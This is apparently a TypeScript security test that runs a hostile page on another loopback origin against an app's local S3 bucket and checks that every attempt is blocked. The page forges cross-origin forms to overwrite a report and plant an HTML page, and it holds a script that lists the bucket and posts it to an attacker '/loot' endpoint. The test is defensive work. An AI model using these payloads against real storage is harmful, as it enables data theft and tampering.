import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { GetObjectCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/browser.ts';
import { fixtureZip } from '../support/fixtures.ts';
import { startTestServer } from '../support/local-server.ts';
import { LOCAL_BUCKET, s3Client, signedForm } from '../support/s3-requests.ts';
import { WEB_DIST } from '../support/web-dist.ts';

/**
 * A web page on another loopback origin, opened in real headless Chromium while Reconnect runs, goes
 * after the reports on the local S3 endpoint: auto-submitted forms to overwrite a report's status and
 * to store a page of its own on the S3 origin and then open it (a page there would read the bucket as
 * same-origin), unsigned and signed with s3rver's public secret, and fetches to list, read and post. None of it may read or change a report. The
 * page's own presigned upload, from its own origin, must still work.
 */
let t: Awaited<ReturnType<typeof startTestServer>>;
let browser: Browser;
let attacker: Server;
let attackerUrl: string;
let victim: string;
/** Whatever reached the attacker's server from the browser. */
const exfiltrated: string[] = [];
const sha = (text: string) => createHash('sha256').update(text).digest('hex');

async function snapshot(): Promise<string[]> {
  const client = s3Client(t.server.s3Endpoint);
  const listed = await client.send(new ListObjectsV2Command({ Bucket: LOCAL_BUCKET }));
  const keys = (listed.Contents ?? []).map((o) => o.Key ?? '').sort();
  const texts = await Promise.all(
    keys.map(async (Key) => {
      const object = await client.send(new GetObjectCommand({ Bucket: LOCAL_BUCKET, Key }));
      return `${Key} ${sha((await object.Body?.transformToString()) ?? '')}`;
    }),
  );
  return texts;
}

/** Forms signed with s3rver's public secret (S3RVER), as a page could sign them in JavaScript. */
let publicForms: { overwrite: Record<string, string>; plant: Record<string, string> };

function attackPage(): string {
  const bucket = `${t.server.s3Endpoint}/${LOCAL_BUCKET}`;
  const forged = JSON.stringify({ status: 'failed', error: { code: 'x', message: 'overwritten' } });
  // Runs on the S3 origin once stored there: lists the bucket and sends every report home.
  const stored = `<script>
    (async () => {
      const list = await (await fetch('/${LOCAL_BUCKET}?list-type=2')).text();
      await fetch('${attackerUrl}/loot', { method: 'POST', mode: 'no-cors', body: 'list ' + list });
    })();
  </script>`;
  const html = (s: string) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
  const hidden = (fields: Record<string, string>) =>
    Object.entries(fields)
      .map(([name, value]) => `<input type="hidden" name="${html(name)}" value="${html(value)}">`)
      .join('');
  return `<!doctype html><html><body>
  <iframe name="one"></iframe><iframe name="two"></iframe><iframe name="three"></iframe><iframe name="four"></iframe>
  <form id="overwrite" method="POST" action="${bucket}" enctype="multipart/form-data" target="one">
    <input type="hidden" name="key" value="reports/${victim}/status.json">
    <textarea name="file">${html(forged)}</textarea>
  </form>
  <form id="plant" method="POST" action="${bucket}" enctype="multipart/form-data" target="two">
    <input type="hidden" name="key" value="pages/pwn.html">
    <input type="hidden" name="Content-Type" value="text/html">
    <textarea name="file">${html(stored)}</textarea>
  </form>
  <form id="overwriteSigned" method="POST" action="${bucket}" enctype="multipart/form-data" target="three">
    ${hidden(publicForms.overwrite)}<textarea name="file">${html(forged)}</textarea>
  </form>
  <form id="plantSigned" method="POST" action="${bucket}" enctype="multipart/form-data" target="four">
    ${hidden(publicForms.plant)}<textarea name="file">${html(stored)}</textarea>
  </form>
  <script>
    window.results = {};
    const attempt = async (name, run) => {
      try { window.results[name] = await run(); } catch (e) { window.results[name] = 'blocked: ' + e.name; }
    };
    (async () => {
      for (const id of ['overwrite', 'plant', 'overwriteSigned', 'plantSigned']) document.getElementById(id).submit();
      await attempt('list', async () => (await fetch('${bucket}?list-type=2')).text());
      await attempt('read', async () => (await fetch('${bucket}/reports/${victim}/report.json')).text());
      await attempt('post', async () => {
        const form = new FormData();
        form.append('key', 'reports/${victim}/report.json');
        form.append('file', new Blob(['{}'], { type: 'text/html' }), 'x.html');
        return (await fetch('${bucket}', { method: 'POST', body: form })).status;
      });
      await attempt('opaquePost', async () => {
        const form = new FormData();
        form.append('key', 'reports/${victim}/report.json');
        form.append('file', new Blob(['{}']), 'x.json');
        return (await fetch('${bucket}', { method: 'POST', body: form, mode: 'no-cors' })).type;
      });
      await new Promise((done) => setTimeout(done, 500));
      window.results.done = true;
    })();
  </script></body></html>`;
}

beforeAll(async () => {
  t = await startTestServer(undefined, WEB_DIST);
  const uploaded = await t.upload('Basic_LinkedInDataExport.zip', fixtureZip('era-2026').bytes);
  expect((await t.settled(uploaded.id)).status).toBe(200);
  victim = uploaded.id;
  const overwrite = await signedForm(t.server.s3Endpoint, {
    key: `reports/${victim}/status.json`,
    secret: 'S3RVER',
  });
  const plant = await signedForm(t.server.s3Endpoint, {
    key: 'pages/pwn.html',
    fields: { 'Content-Type': 'text/html' },
    secret: 'S3RVER',
  });
  publicForms = { overwrite: overwrite.fields, plant: plant.fields };
  attacker = createServer((req, res) => {
    if (req.url === '/loot') {
      let body = '';
      req.on('data', (c: Buffer) => {
        body += c.toString();
      });
      req.on('end', () => {
        exfiltrated.push(body);
        res.end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end(attackPage());
  });
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  browser = await launchChromium();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((done) => attacker?.close(done));
  await t?.server.close();
});

describe('a page on another loopback origin', () => {
  it('can neither read nor change a report, nor plant a page on the S3 origin', async () => {
    const before = await snapshot();
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(attackerUrl);
    await page.waitForFunction(
      () => (window as unknown as { results: { done?: boolean } }).results?.done,
      null,
      {
        timeout: 15_000,
      },
    );
    const results = await page.evaluate(
      () => (window as unknown as { results: Record<string, unknown> }).results,
    );
    // CORS keeps the answers from the page; the guard refuses the requests themselves.
    expect(results.list).toMatch(/^blocked/);
    expect(results.read).toMatch(/^blocked/);
    expect(results.post).toMatch(/^blocked/);
    // The planted page, opened on the S3 origin, is not there to run.
    const planted = await page.goto(`${t.server.s3Endpoint}/${LOCAL_BUCKET}/pages/pwn.html`);
    const plantedType = await planted?.headerValue('content-type');
    await page.waitForTimeout(500);
    await context.close();
    expect(exfiltrated).toEqual([]);
    expect(await snapshot()).toEqual(before);
    const status = await t.api(`/api/reports/${victim}?omit=people`);
    expect(status.status).toBe(200);
    expect((await status.json()).status).toBe('ready');
    expect(planted?.status()).toBe(403);
    expect(plantedType).toBe('application/xml');
    const refused = t.logs.filter((l) => l.includes('"s3-refused"'));
    // Four forms, two fetched posts, the list, the read and the planted page's address, all refused.
    expect(refused.length).toBeGreaterThanOrEqual(8);
  }, 30_000);
});

describe("the page's own upload", () => {
  it('still goes through the presigned form from its own origin (preflight included)', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(t.server.url);
    await page.check('#where-server');
    await page.setInputFiles('#export-file', [
      {
        name: 'Basic_LinkedInDataExport.zip',
        mimeType: 'application/zip',
        buffer: Buffer.from(fixtureZip('era-2026').bytes),
      },
    ]);
    await page.waitForSelector('.row-item:not(.loading)', { timeout: 20_000 });
    expect(page.url()).toMatch(/[?&]report=[A-Za-z0-9_-]{22}(&|$)/);
    await context.close();
  }, 30_000);
});
